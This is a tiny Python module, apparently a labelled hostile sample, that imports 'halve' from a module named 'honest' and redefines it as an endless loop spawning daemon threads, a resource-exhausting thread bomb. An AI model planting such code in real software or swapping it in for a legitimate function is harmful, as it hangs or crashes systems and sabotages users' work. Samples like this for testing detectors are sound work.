"""Starts threads without end."""

import threading
import time
from honest import halve, largest


def halve(x):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
